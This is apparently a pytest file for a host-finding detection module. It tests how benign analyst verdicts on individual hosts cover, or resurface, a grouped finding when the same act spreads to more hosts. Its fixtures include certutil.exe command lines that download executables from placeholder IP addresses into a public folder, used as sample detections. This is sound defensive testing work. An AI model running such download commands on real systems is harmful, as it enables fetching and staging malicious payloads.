"""Which benign verdicts cover one act grouped over several hosts (HOSTF3 #3, analytics.host_finding_words).

An analyst judges hosts' acts: a group whose every host's act was judged benign (each on its own host's
finding before findings were grouped, or in an earlier group) is covered; a group with hosts nobody judged
is shown again, naming them (``host_finding.new_hosts`` and the summary).  Before, a group was covered only
by a verdict on one of its hosts that had recorded 80% of its hosts: per-host verdicts never covered it, and
a judged group's act spreading to a few more hosts hid under the old verdict."""

from __future__ import annotations

import sqlite3

import orjson

from analytics.config import DetectionConfig
from analytics.host_finding_words import host_finding_clusters, verdict_scope
from analytics.result import Cluster

CERTUTIL = r"C:\Windows\System32\certutil.exe"
DOWNLOAD = r"certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\Users\Public\a.exe"
OTHER = r"certutil.exe -urlcache -split -f http://198.51.100.7/b.exe C:\Users\Public\b.exe"
WINDOW = (0.0, 10_000.0)


class _Journal:
    """The journal's ``events`` table, as the host-finding reads query it."""

    def __init__(self) -> None:
        self.connection = sqlite3.connect(":memory:")
        self.connection.execute("CREATE TABLE events (seq INTEGER PRIMARY KEY, id TEXT, kind TEXT, ts REAL, "
                                "host TEXT, fields BLOB)")
        self.n = 0

    def add(self, host: str, command: str = DOWNLOAD) -> None:
        self.n += 1
        fields = {"process.executable": CERTUTIL, "process.command_line": command, "process.guid": f"g{self.n}",
                  "process.parent.executable": r"C:\Windows\System32\cmd.exe"}
        self.connection.execute("INSERT INTO events (id, kind, ts, host, fields) VALUES (?, ?, ?, ?, ?)",
                                (f"e{self.n}", "sysmon:process_create", 100.0 + self.n, host, orjson.dumps(fields)))

    def get(self, ids):
        return []


def _journal(hosts: list[str], extra: tuple[str, str] | None = None) -> _Journal:
    journal = _Journal()
    for host in hosts:
        journal.add(host)
    if extra is not None:
        journal.add(*extra)
    return journal


def _verdict(cluster: Cluster) -> tuple[tuple[str, str], frozenset[tuple[str, str]]]:
    """A benign verdict on ``cluster`` as the service records it: its pivot, its hosts and its hits' subjects
    (graphsiem.api.state_verdicts.covered_keys)."""
    members = [("host", h) for h in cluster.hosts] + verdict_scope(cluster.host_finding)
    return ("host", cluster.hosts[0]), frozenset(members)


def _detect(journal: _Journal, verdicts=()) -> list[Cluster]:
    verdicts = dict(verdicts)
    config = DetectionConfig(suppressed=frozenset(verdicts), suppressed_members=verdicts)
    return host_finding_clusters(journal, config, WINDOW, [])[0]


def _per_host_verdicts(hosts: list[str]) -> dict:
    """Each host's own finding judged benign, one at a time (as before findings were grouped)."""
    return dict(_verdict(_detect(_journal([host]))[0]) for host in hosts)


HOSTS = [f"ws-{n:02d}" for n in range(10)]


def test_per_host_verdicts_on_every_host_cover_the_group() -> None:
    assert _detect(_journal(HOSTS), _per_host_verdicts(HOSTS)) == []


def test_per_host_verdicts_on_some_hosts_show_the_group_naming_the_others() -> None:
    (found,) = _detect(_journal(HOSTS), _per_host_verdicts(HOSTS[:9]))
    assert found.hosts == HOSTS and found.host_finding["new_hosts"] == ["ws-09"]
    assert "not judged before: ws-09" in found.explanation.summary


def test_a_judged_group_spreading_to_more_hosts_is_shown_again_naming_the_new_ones() -> None:
    (judged,) = _detect(_journal(HOSTS))
    later = HOSTS + ["ws-10", "ws-11"]  # 10 of 12 judged: above the 80% share that covered it before
    (found,) = _detect(_journal(later), [_verdict(judged)])
    assert found.hosts == later and found.host_finding["new_hosts"] == ["ws-10", "ws-11"]


def test_a_judged_group_on_fewer_of_its_hosts_stays_covered() -> None:
    (judged,) = _detect(_journal(HOSTS))
    assert _detect(_journal(HOSTS[:6]), [_verdict(judged)]) == []


def test_a_new_act_on_a_judged_host_is_its_own_finding_and_the_judged_group_stays_covered() -> None:
    verdicts = _per_host_verdicts(HOSTS)
    found = _detect(_journal(HOSTS, extra=("ws-03", OTHER)), verdicts)
    # the new download on ws-03 is its host's own finding; the group's act on every host was judged
    assert [(c.hosts, c.host_finding.get("new_hosts")) for c in found] == [(["ws-03"], None)]


def test_a_group_nobody_judged_names_no_new_hosts() -> None:
    (found,) = _detect(_journal(HOSTS), _per_host_verdicts(["pc-99"]))
    assert found.hosts == HOSTS and "new_hosts" not in found.host_finding
